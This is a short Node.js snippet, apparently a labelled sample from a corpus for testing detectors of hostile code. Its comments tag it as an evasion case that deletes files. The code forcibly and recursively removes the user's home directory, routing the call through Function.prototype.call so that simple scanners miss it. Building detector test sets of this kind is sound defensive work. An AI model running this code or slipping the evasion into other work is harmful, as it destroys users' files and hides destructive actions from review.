// evasion: fs.rmSync is invoked through Function.prototype.call with fs as its this, so the home directory is its second argument
// grade: medium; does: delete
const fs = require('fs');
const os = require('os');
fs.rmSync.call(fs, os.homedir(), { recursive: true, force: true });
